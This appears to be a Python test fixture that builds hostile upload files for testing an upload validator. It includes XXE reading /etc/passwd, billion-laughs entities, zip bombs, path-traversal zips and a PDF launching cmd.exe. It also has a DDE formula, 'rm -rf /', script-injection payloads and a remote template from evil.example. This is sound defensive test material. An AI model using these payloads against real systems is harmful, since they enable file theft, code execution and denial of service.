"""Files that somebody might upload to do harm, or that are broken in a way that could; made, never stored."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from resources.tests.made_files import W, docx, line, opendocument, paragraph, pdf, rels, xlsx, zipped

TYPES = "[Content_Types].xml"
GOOD_DOCX = docx(paragraph("A briefing"))
GOOD_PDF = pdf(line("A briefing"))
ENTITY = '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    "<!DOCTYPE d [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {chr(97 + n)} '{('&' + chr(96 + n) + ';') * 10}'>" for n in range(1, 12))
    + "]>"
)


def changed(content: bytes, add: dict | None = None, replace: dict | None = None) -> bytes:
    """A zip with parts added or exchanged."""
    with zipfile.ZipFile(io.BytesIO(content)) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    return zipped({**parts, **(add or {}), **(replace or {})})


def linked() -> bytes:
    """A zip with a link out of its folder."""
    info = zipfile.ZipInfo("inside")
    info.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def flagged(content: bytes) -> bytes:
    """A zip whose parts say that they are encrypted."""
    out = bytearray(content)
    for head, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = out.find(head)
        while place >= 0:
            out[place + offset] |= 1
            place = out.find(head, place + 4)
    return bytes(out)


def claiming(content: bytes, size: int) -> bytes:
    """A zip that says its first part unpacks to this many bytes."""
    out = bytearray(content)
    place = out.find(b"PK\x01\x02")
    out[place + 24 : place + 28] = struct.pack("<I", size)
    return bytes(out)


def damaged(content: bytes) -> bytes:
    """A zip whose directory is whole, and whose first packed part isn't."""
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        part = file.infolist()[0]
    start = part.header_offset + 30 + len(part.filename)
    return content[:start] + b"\xff" * part.compress_size + content[start + part.compress_size :]


def overlapping(times: int) -> bytes:
    """A zip whose directory lists the same bytes many times."""
    inner = zipped({"a.txt": b"\0" * 5_000_000})
    start, end = inner.find(b"PK\x01\x02"), inner.find(b"PK\x05\x06")
    entry = inner[start:end]
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, times, times, len(entry) * times, start, 0)
    return inner[:start] + entry * times + tail


def settings_from(address: str) -> dict[str, str]:
    """The part that makes Word fetch its template."""
    part = rels(("attachedTemplate", address)).replace("/>", ' TargetMode="External"/>')
    return {"word/settings.xml": f"<w:settings {W}/>", "word/_rels/settings.xml.rels": part}


def png(width: int, height: int) -> bytes:
    """A picture that says it is this large."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def many_frames() -> bytes:
    """A small file of many large frames."""
    frames = [Image.new("P", (3000, 3000), n) for n in range(8)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def with_encryption() -> bytes:
    """A PDF that asks for a password."""
    cipher = f"/Encrypt << /Filter /Standard /V 1 /R 2 /O <{'41' * 32}> /U <{'42' * 32}> /P -4 >> /ID [<{'43' * 16}> <{'43' * 16}>]"
    return GOOD_PDF.replace(b"trailer\n<< ", b"trailer\n<< " + cipher.encode() + b" ")


def deep(levels: int) -> str:
    """An element in an element in an element."""
    return f"<w:body>{'<w:tbl>' * levels}{'</w:tbl>' * levels}</w:body>"


REFUSED: dict[str, tuple[str, bytes, str]] = {  # what it is: (its name, its bytes, words of the reason)
    "nothing": ("a.pdf", b"", "empty"),
    "a program called PDF": ("a.pdf", b"MZ\x90\0" + b"\0" * 3000, "something else"),
    "a page called PDF": ("a.pdf", b"<html><script>alert(1)</script>", "something else"),
    "a PDF of a head only": ("a.pdf", b"%PDF-1.7\n", "broken"),
    "a PDF of noise": ("a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40, "broken"),
    "a PDF without pages": ("a.pdf", pdf(), "broken"),
    "a PDF with a password": ("a.pdf", with_encryption(), "password"),
    "a PDF that is a zip": ("a.pdf", GOOD_PDF + zipped({"a.txt": b"x"}), "archive in one"),
    "a PDF that starts programs": (
        "a.pdf",
        pdf(line("x"), extra={"OpenAction": "<< /S /Launch /F (cmd.exe) >>"}),
        "start a program",
    ),
    "a program by its name": ("a.exe", b"MZ", "can't be uploaded"),
    "a drawing with a script": ("a.svg", b"<svg onload='alert(1)'/>", "can't be uploaded"),
    "a page by its name": ("a.html", b"<p>", "can't be uploaded"),
    "two endings": ("report.pdf.exe", GOOD_PDF, "can't be uploaded"),
    "no ending": ("report", GOOD_PDF, "can't be uploaded"),
    "a page called text": ("a.txt", b"\n<!-- x --><html><script>alert(1)</script>", "something else"),
    "a drawing called text": ("a.csv", b"<svg xmlns='x'><script/></svg>", "something else"),
    "a script called text": ("a.txt", b"#!/bin/sh\nrm -rf /", "something else"),
    "bytes called text": ("a.csv", b"a,b\0\0\1\2", "not text"),
    "a Word file of another kind": ("a.docx", xlsx({"A": [["x"]]}), "something else"),
    "a zip called Word": ("a.docx", zipped({"a.txt": b"x"}), "something else"),
    "text called Word": ("a.docx", b"hello", "something else"),
    "Word with a password": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000, "password"),
    "Word with macros": ("a.docx", changed(GOOD_DOCX, {"word/vbaProject.bin": b"x"}), "macros"),
    "Word with macros, renamed": (
        "a.docx",
        changed(
            GOOD_DOCX,
            replace={
                TYPES: '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            },
        ),
        "macros",
    ),
    "Excel with old macros": ("a.xlsx", changed(xlsx({"A": [["x"]]}), {"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "Word with ActiveX": ("a.docx", changed(GOOD_DOCX, {"word/activeX/activeX1.bin": b"x"}), "macros"),
    "Word with a program inside": ("a.docx", changed(GOOD_DOCX, {"word/embeddings/run.exe": b"MZ"}), "program"),
    "Word that reads a file of ours": (
        "a.docx",
        changed(GOOD_DOCX, replace={"word/document.xml": f"{ENTITY}<w:document {W}>&e;</w:document>"}),
        "instructions",
    ),
    "Word that laughs": (
        "a.docx",
        changed(GOOD_DOCX, replace={"word/document.xml": f"{LAUGHS}<w:document {W}>&l;</w:document>"}),
        "instructions",
    ),
    "Word that fetches its template": (
        "a.docx",
        changed(GOOD_DOCX, settings_from("https://evil.example/t.dotm")),
        "template",
    ),
    "Word that is a bomb": ("a.docx", docx(paragraph(" " * 60_000_000)), "unpacks"),
    "OpenDocument with macros": (
        "a.odt",
        changed(opendocument("text", ""), {"Basic/Standard/m.xml": "<x/>"}),
        "macros",
    ),
    "OpenDocument with a password": (
        "a.odt",
        opendocument("text", "", manifest="<m:file-entry><m:encryption-data/></m:file-entry>"),
        "password",
    ),
    "a zip bomb": ("a.zip", zipped({"a.txt": b"\0" * 60_000_000}), "unpacks"),
    "a zip that claims four gigabytes": ("a.zip", claiming(zipped({"a.txt": b"x"}), 0xFFFFFFF0), "unpacks"),
    "a zip that lists the same part often": ("a.zip", overlapping(900), "unpacks"),
    "a zip of very many parts": ("a.zip", zipped({f"{n}.txt": b"" for n in range(5_001)}), "unpacks"),
    "a zip in a zip": ("a.zip", zipped({"b.zip": zipped({"c.txt": b"x"})}), "another archive"),
    "a zip that climbs": ("a.zip", zipped({"../../etc/cron.d/x": b"x"}), "outside of its folder"),
    "a zip from the root": ("a.zip", zipped({"/etc/passwd": b"x"}), "outside of its folder"),
    "a zip that climbs on Windows": ("a.zip", zipped({"..\\..\\x.txt": b"x"}), "outside of its folder"),
    "a zip with a link": ("a.zip", linked(), "links to other places"),
    "a zip with a password": ("a.zip", flagged(zipped({"a.txt": b"x"})), "password"),
    "a zip with a program": ("a.zip", zipped({"setup.exe": b"MZ"}), "program"),
    "a zip with old Word": ("a.zip", zipped({"pack/a.doc": b"x"}), "“pack/a.doc” in the archive: The site can't look"),
    "a zip with macros in its Word": (
        "a.zip",
        zipped({"a.docx": GOOD_DOCX, "b.docx": changed(GOOD_DOCX, {"word/vbaProject.bin": b"x"})}),
        "“b.docx” in the archive: The file holds macros",
    ),
    "a zip with a page called PDF": ("a.zip", zipped({"a.pdf": b"<html>"}), "something else"),
    "a zip of very many documents": ("a.zip", zipped({f"{n}.txt": b"" for n in range(501)}), "more than 500 documents"),
    "a zip of damaged bytes": ("a.zip", damaged(zipped({"a.txt": b"word " * 1000})), "broken"),
    "Word of damaged bytes": ("a.docx", damaged(GOOD_DOCX), "broken"),
    "a zip broken off": ("a.zip", zipped({"a.txt": b"x" * 1000})[:60], "broken"),
    "Word broken off": ("a.docx", GOOD_DOCX[: len(GOOD_DOCX) // 2], "broken"),
    "RTF with a program": ("a.rtf", b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}", "old kind"),
    "old Word of noise": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 5000, "old kind"),
    "an invisible sign in the name": ("annual\u202efdp.pdf", GOOD_PDF, "invisible"),
}

STORED: dict[str, tuple[str, bytes]] = {  # taken, since they harm nobody who opens them; reading them must end well
    "a PDF whose pages contain themselves": ("a.pdf", GOOD_PDF.replace(b"/Kids [5 0 R]", b"/Kids [2 0 R]")),
    "a PDF that claims a billion pages": ("b.pdf", GOOD_PDF.replace(b"/Count 1 ", b"/Count 1000000000 ")),
    "a PDF nested deeply": ("c.pdf", pdf(line("x"), extra={"Deep": "[" * 20_000 + "]" * 20_000})),
    "a PDF of a huge page": ("d.pdf", GOOD_PDF.replace(b"[0 0 595 842]", b"[0 0 9000000 9000000]")),
    "a PDF with a script": (
        "e.pdf",
        pdf(line("x"), extra={"Names": "<< /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>"}),
    ),
    "a PDF whose stream is a bomb": ("f.pdf", pdf(b"0 0 m 9 9 l S\n" * 5_000_000)),
    "a PDF broken off": ("g.pdf", pdf(*[line(f"Page {n}") for n in range(40)])[:4000]),
    "a PDF whose table is in a circle": ("h.pdf", GOOD_PDF.replace(b"trailer\n<< ", b"trailer\n<< /Prev 9 ")),
    "a PDF with an object that is itself": ("i.pdf", GOOD_PDF.replace(b"/Contents 4 0 R", b"/Contents 5 0 R")),
    "Word nested deeply": (
        "j.docx",
        changed(GOOD_DOCX, replace={"word/document.xml": f"<w:document {W}>{deep(50_000)}</w:document>"}),
    ),
    "Word that isn't XML": ("k.docx", changed(GOOD_DOCX, replace={"word/document.xml": "<w:document"})),
    "Word without its text": ("l.docx", zipped({TYPES: 'ContentType="x.wordprocessingml.document.main+xml"'})),
    "Word with a laugh in another encoding": (
        "m.docx",
        changed(GOOD_DOCX, replace={"word/document.xml": f"{LAUGHS}<w:document {W}>&l;</w:document>".encode("utf-16")}),
    ),
    "Excel that counts beyond its strings": (
        "n.xlsx",
        changed(
            xlsx({"A": [["x"]]}),
            replace={"xl/worksheets/sheet1.xml": '<worksheet><sheetData><row><c r="??" t="s"><v>99999999999</v></c></row></sheetData></worksheet>'},
        ),
    ),
    "Excel with formulas that reach out": (
        "o.csv",
        b"=cmd|'/c calc'!A1,=HYPERLINK(\"http://evil.example\")\n",
    ),
    "text of control characters": ("p.txt", bytes(range(1, 32)) * 100),
    "text of half characters": ("q.txt", b"caf\xc3 \xed\xa0\x80 \xff\xfe" * 50),
    "a line without an end": ("r.txt", b"x" * 3_000_000),
}  # fmt: skip

PICTURES: dict[str, tuple[str, bytes]] = {
    "a flood of pixels": ("a.png", png(60_000, 60_000)),
    "many large frames": ("a.gif", many_frames()),
    "a drawing called picture": ("a.png", b"<svg><script>alert(1)</script></svg>"),
    "a page called picture": ("a.jpg", b"<html><script>alert(1)</script>"),
    "a picture broken off": ("a.png", png(10, 10)[:40]),
    "a picture of noise": ("a.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8),
    "a script behind a picture's head": ("a.gif", b"GIF89a=0;/*" + b"\0" * 40 + b"*/alert(1)"),
}
